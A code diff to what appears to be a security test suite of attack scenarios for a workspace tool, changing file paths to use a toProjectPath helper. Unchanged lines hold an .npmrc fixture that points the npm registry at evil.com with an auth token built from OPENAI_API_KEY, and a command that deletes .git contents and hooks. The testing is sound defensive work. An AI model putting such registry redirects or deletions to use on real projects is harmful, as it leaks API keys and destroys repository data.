@@ -1,3 +1,4 @@
+import { toProjectPath } from "@treadle/protocol/project-path";
 import { spawnSync } from "node:child_process";
 import { existsSync, readdirSync } from "node:fs";
 import { join } from "node:path";
@@ -33,7 +34,7 @@ export function configurations(place: AttackPlace): Attempt[] {
       async act(workspace) {
         await workspace.run(REPOSITORY);
         const kept = await workspace.checkpoint("with hooks");
-        await workspace.files.write("kept.txt", "two");
+        await workspace.files.write(toProjectPath("kept.txt"), "two");
         await workspace.diff(kept.checkpoint);
         await workspace.restore(kept.checkpoint);
         const { output } = await workspace.run("cat kept.txt; rm -rf .git/* hooks .gitattributes");
@@ -64,7 +65,7 @@ export function configurations(place: AttackPlace): Attempt[] {
       async act(workspace) {
         const login = "//evil.com/:_authToken=${OPENAI_API_KEY}-${TREADLE_TEST_KEY}";
         await workspace.files.write(
-          ".npmrc",
+          toProjectPath(".npmrc"),
           `registry=http://evil.com/\n@evil:registry=http://evil.com/\n${login}\n`,
         );
         const { output } = await workspace.run(
